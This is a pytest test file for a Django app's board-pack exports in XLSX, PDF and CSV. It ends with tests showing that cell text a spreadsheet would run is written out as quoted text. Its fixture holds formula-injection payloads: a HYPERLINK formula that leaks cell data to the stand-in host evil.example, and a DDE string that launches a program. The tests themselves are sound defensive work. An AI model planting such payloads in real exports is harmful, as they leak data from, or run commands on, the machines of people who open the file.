"""The board pack downloads open in the tools people use: XLSX in a spreadsheet, the PDF as
text, the CSV with any CSV reader; and text a spreadsheet would run comes out as text.
"""

from __future__ import annotations

import csv
import datetime
import io
import os
import re
import shutil
import subprocess

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from actions import exports, services
from actions.models import RAG, Action, ProgressUpdate
from actions.rules import RAG_LABELS
from inspections.models import Person, Recommendation

LABEL_TO_RAG = {label: key for key, label in RAG_LABELS.items()}
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def download(user, inspection, fmt: str):
    client = Client()
    client.force_login(user)
    response = client.get(reverse("board_pack", args=[inspection.pk]), {"format": fmt})
    assert response.status_code == 200, response.content[:300]
    return response


def workbook(response):
    return load_workbook(io.BytesIO(response.content))


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def column(sheet, header: str) -> int:
    """The 0-based index of a header in the sheet's first row."""
    return [c.value for c in sheet[1]].index(header)


def require(available: bool, what: str) -> None:
    if available:
        return
    if os.environ.get("YJ_REQUIRE_BROWSER") == "1":
        pytest.fail(f"{what} is missing and YJ_REQUIRE_BROWSER=1")
    pytest.skip(f"{what} is not installed (Debian: poppler-utils; CI installs it)")


# --- XLSX --------------------------------------------------------------------------------


def test_the_xlsx_pack_has_three_sheets_with_frozen_styled_headers(knowsley_demo, viewer):
    response = download(viewer, knowsley_demo, "xlsx")
    book = workbook(response)

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert book.sheetnames == ["About", "Recommendations", "Actions", "Updates"]
    about = dict(book["About"].iter_rows(values_only=True))
    assert about["Board pack"] == str(knowsley_demo)
    assert about["Protective marking"] == "None"
    for sheet in list(book)[1:]:
        assert sheet.freeze_panes == "C2", sheet.title
        for cell in sheet[1]:
            assert cell.value, f"{sheet.title}: an empty header"
            assert cell.font.bold, f"{sheet.title} {cell.value}: header not bold"
            assert cell.fill.fill_type == "solid"
            assert cell.fill.fgColor.rgb.endswith("0B0C0C")


def test_the_xlsx_pack_holds_every_recommendation_action_and_update(knowsley_demo, viewer):
    book = workbook(download(viewer, knowsley_demo, "xlsx"))
    actions = Action.objects.filter(plan__recommendation__inspection=knowsley_demo)
    updates = ProgressUpdate.objects.filter(action__in=actions)

    recs = book["Recommendations"]
    texts = [row[column(recs, "Recommendation")] for row in recs.iter_rows(2, values_only=True)]
    assert texts == list(
        Recommendation.objects.filter(inspection=knowsley_demo)
        .order_by("number")
        .values_list("text", flat=True)
    )
    sheet = book["Actions"]
    titles = {row[column(sheet, "Action")] for row in sheet.iter_rows(2, values_only=True)}
    assert titles == set(actions.values_list("title", flat=True))
    assert book["Updates"].max_row - 1 == updates.count()


def test_every_rag_cell_in_the_xlsx_pack_is_filled_and_labelled_in_words(knowsley_demo, viewer):
    book = workbook(download(viewer, knowsley_demo, "xlsx"))

    seen = set()
    for title in ("Actions", "Updates"):
        sheet = book[title]
        index = column(sheet, "RAG")
        for row in sheet.iter_rows(min_row=2):
            cell = row[index]
            assert cell.value in LABEL_TO_RAG, f"{title}: {cell.value!r} is not a RAG label"
            fill, text = exports.RAG_CELL_FILLS[LABEL_TO_RAG[cell.value]]
            assert cell.fill.fill_type == "solid"
            assert cell.fill.fgColor.rgb.endswith(fill), f"{title} {cell.value}: wrong colour"
            assert cell.font.color.rgb.endswith(text)
            seen.add(cell.value)
    assert {"Overdue", "Green: on track", "Blue: complete", "No update yet"} <= seen


# --- PDF ---------------------------------------------------------------------------------


def words(text: str) -> str:
    """Text with its line breaks undone: a line may break after a hyphen, or anywhere."""
    return re.sub(r"-\s+", "-", " ".join(text.split()))


def test_the_pdf_pack_holds_the_text_of_every_recommendation(knowsley_demo, viewer, tmp_path):
    require(exports.pdf_available(), "WeasyPrint")
    pdftotext = shutil.which("pdftotext")
    require(pdftotext is not None, "pdftotext")
    response = download(viewer, knowsley_demo, "pdf")
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    path = tmp_path / "pack.pdf"
    path.write_bytes(response.content)

    text = subprocess.run(  # noqa: S603 (our own file, a fixed tool)
        [pdftotext, "-raw", str(path), "-"], capture_output=True, check=True, text=True
    ).stdout

    flat = words(text)
    for rec in Recommendation.objects.filter(inspection=knowsley_demo):
        assert words(rec.text) in flat, f"recommendation {rec.number} missing"
    for action in Action.objects.filter(plan__recommendation__inspection=knowsley_demo):
        assert words(action.title) in flat, f"action {action.reference} missing"


# --- CSV ---------------------------------------------------------------------------------


def test_the_csv_pack_parses_with_one_row_per_action(knowsley_demo, viewer):
    response = download(viewer, knowsley_demo, "csv")
    rows = csv_rows(response)
    actions = Action.objects.filter(plan__recommendation__inspection=knowsley_demo)

    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].endswith('.csv"')
    assert rows[0] == exports.pack_rows([])["Actions"][0]
    assert {len(row) for row in rows} == {len(rows[0])}
    assert sorted(row[1] for row in rows[1:]) == sorted(a.reference for a in actions)
    by_ref = {row[1]: row for row in rows[1:]}
    first = actions.get(plan__recommendation__number=1, number=1)
    assert by_ref["1.1"][2] == first.title  # plain text is left alone
    assert by_ref["1.1"][5] == "Blue: complete"


# --- Formula injection ---------------------------------------------------------------------


@pytest.fixture
def dangerous_action(knowsley_demo, manager):
    """Makes an action whose title and latest update start with `start`, as a person could."""

    def make(start: str) -> tuple[Action, str, str]:
        today = timezone.localdate()
        rec = Recommendation.objects.get(inspection=knowsley_demo, number=1)
        title = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"Open")'
        narrative = f"{start}cmd|' /C calc'!A0"
        action = services.action_add(
            plan=rec.plan,
            by=manager,
            title=title,
            owner=Person.objects.get(service=knowsley_demo.service, user=manager),
            start_date=today - datetime.timedelta(days=10),
            due_date=today + datetime.timedelta(days=30),
            success_measure="Done.",
        )
        services.update_log(
            action=action,
            by=manager,
            date=today,
            narrative=narrative,
            rag=RAG.GREEN,
            percent_complete=10,
        )
        return action, title, narrative

    return make


def quoted(value, original: str) -> bool:
    """`original` behind a leading quote. (XML reads a carriage return back as a new line.)"""
    if not isinstance(value, str) or not value.startswith("'"):
        return False
    return value[1:].replace("\r", "\n") == original.replace("\r", "\n")


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_text_a_spreadsheet_would_run_comes_out_of_the_xlsx_as_text(
    knowsley_demo, viewer, dangerous_action, start
):
    action, title, narrative = dangerous_action(start)

    book = workbook(download(viewer, knowsley_demo, "xlsx"))

    sheet = book["Actions"]
    row = next(r for r in sheet.iter_rows(2, values_only=True) if r[column(sheet, "Ref.")] == "1.4")
    assert quoted(row[column(sheet, "Action")], title)
    assert quoted(row[column(sheet, "Latest update")], narrative)
    updates = book["Updates"]
    narratives = [r[column(updates, "Narrative")] for r in updates.iter_rows(2, values_only=True)]
    assert sum(quoted(n, narrative) for n in narratives) == 1
    for sheet in book:
        for r in sheet.iter_rows():
            for cell in r:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_text_a_spreadsheet_would_run_comes_out_of_the_csv_as_text(
    knowsley_demo, viewer, dangerous_action, start
):
    action, title, narrative = dangerous_action(start)

    rows = csv_rows(download(viewer, knowsley_demo, "csv"))

    row = next(r for r in rows if r[1] == action.reference)
    assert row[2] == "'" + title
    assert row[9] == "'" + narrative
    assert not any(cell.startswith(tuple(FORMULA_STARTS)) for r in rows for cell in r), (
        "a cell starts with a formula character"
    )
